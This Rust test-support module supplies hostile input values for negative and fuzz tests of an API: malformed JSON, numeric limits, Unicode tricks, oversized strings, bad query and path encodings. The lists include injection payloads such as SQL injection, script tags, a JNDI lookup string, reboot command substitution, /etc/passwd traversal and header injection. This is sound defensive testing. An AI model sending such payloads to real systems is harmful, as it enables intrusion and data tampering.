//! Hostile values: JSON, query values, names of parameters and fields, path segments. Each is here once, and the tests send it wherever it
//! can stand. The snapshots have the answers.

use serde_json::value::RawValue;

/// Hostile JSON values of a fixed text, for every field.
const JSON_VALUES: &str = r##"[
    null, true, false, 0, -0, -1, 1.5, 1.0, 1e2, 1E-400, 9007199254740992, 9007199254740993, 18446744073709551616,
    123456789012345678901234567890, "", " ", "\u00a0\u3000", "\u0000", "a\u0000b", "\u001f", "USER\u001f1", "\u007f", "a\u0085b", "\t",
    "a\nb", "a\rb", "a\u001bb", "a\u009bb", "x\r\nSet-Cookie: a=b", "\u202egnp.exe", "\u200b", "a\u200d\u200bb", "\ufeff", "a\u2028b",
    "\u0301\u0301", "\uffff\ufdd0", "\ud83d\udc68\u200d\ud83d\udc69\u200d\ud83d\udc67",
    "\ud83d\ude00\ud83d\ude00\ud83d\ude00\ud83d\ude00\ud83d\ude00\ud83d\ude00", "\uff0d\uff11\uff12\uff13\uff14\uff15", "' OR '1'='1",
    "'; DROP TABLE users; --", "<script>alert(1)</script>", "<img src=x onerror=alert(1)>", "{{7*7}}${7*7}<%= 7*7 %>#{7*7}",
    "${jndi:ldap://x.example/a}", "$(reboot)`reboot`|reboot", "../../../../etc/passwd", "#a", ":v", "attribute_not_exists(pk)", "USER#1",
    "__proto__", "constructor", "%00%0a%s%n", "\\\"}],\"role\":\"PROVIDER\"", "undefined", "true", "=HYPERLINK(\"//x.example\")",
    "+-.()/ 12", [], {}, [[]], [null], [0], [{"a":1},{"a":1}], ["b1-1","b1-1"], ["b2-1"], ["b1-1\u0000"], {"S":"x"}, {"N":"1"}, {"$gt":""},
    {"__proto__":{"role":"PROVIDER"}}, {"toString":null,"length":-1}
]"##;

/// Hostile JSON values for one kind of field: the fields, and an array of the values.
const VALUES_OF_FIELDS: [(&[&str], &str); 8] = [
    (
        &["phone"],
        r#"["11111111111111111111111111111111", "111111111111111111111111111111111", "0800-SHOP", "٠١٢", 33477123456, "01\n23"]"#,
    ),
    (&["lang"], r#"["nl", "english", "en-", "e", "fr-", "zh-CN", "en\u0000"]"#),
    (&["status", "role"], r#"["Active", "INVITED", "org_admin", "provider", " active", "ORG_ADMIN "]"#),
    (&["send_invitation"], r#"["yes", 2, "true\n!"]"#),
    (&["password"], r#"["ab cd", 123456, "canary-pass\u0000", ["canary-pass"]]"#),
    (
        &["org_id"],
        r#"[18446744073709551615, "-0", "1e2", "+1", "١", "one", "1\u00002", "100000000000000000000000000000000000000000", [1]]"#,
    ),
    (
        &["business_ids"],
        r#"[["b1-1","b9"], ["b9","b1-1","b8"], ["b1-1","b2-1"], ["B1-1","b1-1 ",""], ["a b","é"], "b1-1", {"0":"b1-1"}, ["b1-1",1],
            [["b1-1"]], ["bbbbbbbbbbbbbbbbbbbbbbbbbbbbbbbbbbbbbbbbbbbbbbbbbbbbbbbbbbbbbbbbb"]]"#,
    ),
    (
        &["email"],
        r#"["  ", ["a@canary-mail.example"], "a@canary-mail.example\r\nBcc: b@canary-mail.example", "a\u0000@canary-mail.example",
            "canary-mail.example", "@canary-mail.example", "a@", "a@b@canary-mail.example", "Ada <a@canary-mail.example>",
            "<a@canary-mail.example>", "a@[192.0.2.1]", "a@192.0.2.1", "a@canary-mail", "a@canary-mail.example.", "a..b@canary-mail.example",
            ".a@canary-mail.example", "a b@canary-mail.example", "a@canary-mail.example,b@canary-mail.example",
            "mailto:a@canary-mail.example", "a(b)@canary-mail.example", "zoë@canary-mail.example", "zoe\u0308@canary-mail.example",
            "straße@canary-mail.example", "ａｎａ@canary-mail.example", "用户@例子.canary-mail.example", "ë@"]"#,
    ),
];

fn texts(array: &'static str) -> impl Iterator<Item = String> {
    let values: Vec<&'static RawValue> = serde_json::from_str(array).expect("an array");
    values.into_iter().map(|value| value.get().to_owned())
}

/// Returns JSON values as text, for any field: wrong types, limits of numbers, injections, misleading characters.
pub(super) fn json_values() -> Vec<String> {
    let built = [
        format!(r#""{}""#, "x".repeat(100)),
        format!(r#""{}""#, "x".repeat(101)),
        format!(r#""{}""#, "\u{fdfa}".repeat(100)),
        format!(r#""{}""#, "字".repeat(128)),
        format!(r#""{}""#, "\u{1f600}".repeat(129)),
        format!(r#""e{}""#, "\u{301}".repeat(99)),
        format!(r#""{}""#, "x".repeat(60_000)),
        format!(r#""{}@example.com""#, "x".repeat(300)),
        format!("{}{}", "[".repeat(100), "]".repeat(100)),
        format!("{}0{}", r#"{"a":"#.repeat(100), "}".repeat(100)),
        format!("[{}0]", "0,".repeat(5_000)),
        serde_json::json!((0..2_001).map(|number| format!("b{number}")).collect::<Vec<_>>()).to_string(),
    ];
    texts(JSON_VALUES).chain(built).collect()
}

/// Returns the JSON values for a field: those for any field, and its own.
pub(super) fn json_values_of(field: &str) -> Vec<String> {
    let own = VALUES_OF_FIELDS.iter().filter(|(fields, _)| fields.contains(&field));
    json_values().into_iter().chain(own.flat_map(|(_, values)| texts(values))).collect()
}

/// Returns texts in the place of a JSON value that are malformed or too deep.
#[rustfmt::skip]
pub(super) fn malformed_json() -> Vec<String> {
    const TEXTS: [&str; 20] = [
        "", "1e400", "-1e400", "NaN", "Infinity", "0x10", "01", "+1", ".5", "'x'", "undefined", "[1,]", "/* */1", r#""\ud800""#,
        r#""\udc00\ud800""#, r#""\x41""#, "\"a\nb\"", "\"\0\"", r#""open"#, "1 1",
    ];
    let deep =
        [("[", "]"), (r#"{"a":"#, "}")].map(|(open, close)| format!("{}0{}", open.repeat(200), close.repeat(200)));
    TEXTS.into_iter().map(str::to_owned).chain(deep).collect()
}

/// Returns bodies that are no JSON object, or have a field twice.
#[rustfmt::skip]
pub(super) fn malformed_bodies() -> Vec<Vec<u8>> {
    const BODIES: [&[u8]; 30] = [
        b"\xff", b"{\"phone\":\"\xff\"}", b"{\"phone\":\"\xc0\xaf\"}", b"{\"\xc3(\":1}", b"\xef\xbb\xbf{\"phone\":\"1\"}", b"\xff\xfe{\0}\0",
        b"{\0\"\0a\0\"\0:\x001\0}\0", b"{", br#"{"phone"}"#, br#"{"phone":"1",}"#, b"hello", b"phone=1", b"{'phone':1}", b"{phone:1}",
        br#"{"phone":"1"} {}"#, br#"{"phone":"1"}{}"#, b"{\"phone\":\"1\"}\0", br#"{"phone":"1"/* */}"#, b"{\"phone\":\"a\tb\"}", b"   ",
        b"{\n\n  \"a\": tru }", b"[{}]", b"1", br#""text""#, br#"{"phone":"1","phone":"2"}"#, br#"{"phone":"1","phone":"1"}"#,
        br#"{"phone":"1","\u0070hone":"2"}"#, br#"{"phone":"1","ph\u006fne":"2"}"#, br#"{"role":null,"role":"PROVIDER"}"#, br#"{"foo":1,"foo":2}"#,
    ];
    let deep = format!(r#"{{"phone":{}{}}}"#, "[".repeat(10_000), "]".repeat(10_000));
    BODIES.into_iter().map(<[u8]>::to_vec).chain([deep.into_bytes()]).collect()
}

/// Hostile values of a query of a fixed text, encoded or not, for every parameter. The empty one is added to them.
const QUERY_VALUES: &str = r#"
    + %20 %E3%80%80 % %4 %zz %% %u0041 %00 a%00b %1f %7F %C2%85 %09 %0d%0aSet-Cookie:x %ff %c0%af %e0%80%af %ed%a0%80 %F8%88%80%80%80
    %F0%9F%92%A9 %D0%B6 ж １２ %E2%80%AE %E2%80%8B %CC%81 %EF%BB%BF %25 %2525 & &&& = == ; x;y=z x&role=PROVIDER [] %5B%5D {} {{7*7}} '
    '%20OR%201=1-- %3Cscript%3E <script> " ` ^ | \ %23a :v $gt * ../..%2f 1e309 -99999999999999999999999 0x10 true,false __proto__ undefined
    a% %C3 %C3%28 %C0%80 null NaN -- %27 ~ o:1 c:1:lyon T%23o:1 M%232025-01 lyon%23lyon-1 :partition %2C%2C%2C %C2%AD"#;

const DATES: &[&str] = &["update_date__gte", "update_date__lte"];

/// Hostile values for one kind of parameter: the parameters, and the values.
const VALUES_OF_PARAMETERS: [(&[&str], &str); 7] = [
    (
        &["org_id", "page", "per_page", "rating", "rating__in"],
        "0 -1 6 101 1.0 1.5 1e3 %2B1 --1 1,2 1;2 1,6 1,x 1,%092 %D9%A1 1%00 one true 9007199254740992 18446744073709551615
         18446744073709551616 999999999999999999999999999999999999999999999999999999999999",
    ),
    (
        DATES,
        "yesterday 2025-03 2025-02-29 1740830400 01-03-2025 2025-03-01T24:00:00 2025-03-01+12:00:00 2025-03-01t12:00:00z 10000-01-01
         2025-03-01T12:00:00%0A 2025-01-01T00:00:00%2B99:99 -0001-01-01 99999-01-01",
    ),
    (
        &["status", "state", "partner__in", "order_by", "group_by"],
        "Active INVITED activ active,invited %20active active%00 1 open Treated treated,open partner_2 Partner_8 date UPDATE_DATE week DAY
         day,month business_id %20rating",
    ),
    (&["lang"], "XX ZZ-GB ENG english E EN- -GB GB-EN EN%20US ES es-MX NL 1 %C3%89N GB,FR GB%0A"),
    (&["content__isnull", "display_business_ids"], "yes no maybe 2 -1 1.0 01 t truefalse true%00 %C2%A0"),
    (&["last_name", "query", "name", "city", "business_city"], "a%0A a%09b a%C2%85b"),
    (
        &["email"],
        "ana ana.lopez @canary-mail.example ana@ ana%25@ Ana.Lopez+Shop@canary-mail.example ana%00@canary-mail.example",
    ),
];

/// Returns values of a query string for a parameter: badly encoded ones, syntax of other systems, too long ones, and its own.
pub(super) fn query_values(parameter: &str) -> Vec<Vec<u8>> {
    let built: [Vec<u8>; 13] = [
        Vec::new(),
        vec![0xff],
        vec![0xc3, 0x28],
        "x".repeat(255).into_bytes(),
        "x".repeat(256).into_bytes(),
        "x".repeat(8_000).into_bytes(),
        "+".repeat(8_000).into_bytes(),
        "%41".repeat(2_600).into_bytes(),
        "ж".repeat(256).into_bytes(),
        format!("{}a", "%20".repeat(255)).into_bytes(),
        "x,".repeat(600).into_bytes(),
        "1,".repeat(600).into_bytes(),
        format!("1&{parameter}=1").into_bytes(),
    ];
    let own = VALUES_OF_PARAMETERS.iter().filter(|(parameters, _)| parameters.contains(&parameter));
    let texts = [QUERY_VALUES].into_iter().chain(own.map(|(_, values)| *values)).flat_map(str::split_whitespace);
    texts.map(|text| text.as_bytes().to_vec()).chain(built).collect()
}

/// Returns names of parameters that no operation has, or not each: unreadable ones, mistyped ones, those of other APIs.
pub(super) fn parameter_names() -> impl Iterator<Item = &'static str> {
    const NAMES: &str = "%00 bogus ORG_ID org_id%00 org_id[] org_id%5B%5D +org_id org_id+ api_key[] API_KEY __proto__ % a%zz %ff x-api-key ж
        last-name lastname last_nmae Status state state[] q limit offset sort organisation first_name role phone lang id ab nme
        rating_in rating__in[0] partner%5B%5D state__in city businessIds since name query language";
    NAMES.split_whitespace().chain([""])
}

/// Names of fields that a user does not have: mistyped ones, those of other APIs, and those that only the service sets.
pub(super) const FIELD_NAMES: &str = "foo id user_id keys invited_at send_invitation __proto__ Email first-name firstName lastnmae language \
    organization_id business_ids[] apiKey";

/// Returns path segments that are the id of no user; `{id}` stands for the id of a user.
pub(super) fn path_segments() -> Vec<Vec<u8>> {
    const SEGMENTS: &str = "{id}%00 {id}%20 %20{id} {id}%0a {id};a=b {id}.json {id}.0 {id}e0 +{id} -{id} 0{id} 0x{id} {id},{id} {id}&api_key=x
        {id}= {id}%2F {id}%2Finvite {id}%5C {id}/ {id}// /{id} {id}%1F {id}%EF%BC%91 %EF%BC%91 １ é %ff %c0%af % %zz %00 %2e%2e .. .
        ..%2f..%2fme %20 + * {user_id} %7Bproxy+%7D null undefined __proto__ NaN '%20OR%201=1-- <script>
        0 -1 +1 %2B1 01 1.0 1e3 abc ME Search %201 1%20 0x1 1%00 9007199254740992 18446744073709551617 %D9%A3 1,2 1%2F2";
    let built: [Vec<u8>; 5] = [
        vec![0xff],
        "9".repeat(17).into_bytes(),
        "9".repeat(8_000).into_bytes(),
        "%39".repeat(2_000).into_bytes(),
        "a/".repeat(2_000).into_bytes(),
    ];
    SEGMENTS.split_whitespace().map(|text| text.as_bytes().to_vec()).chain(built).collect()
}
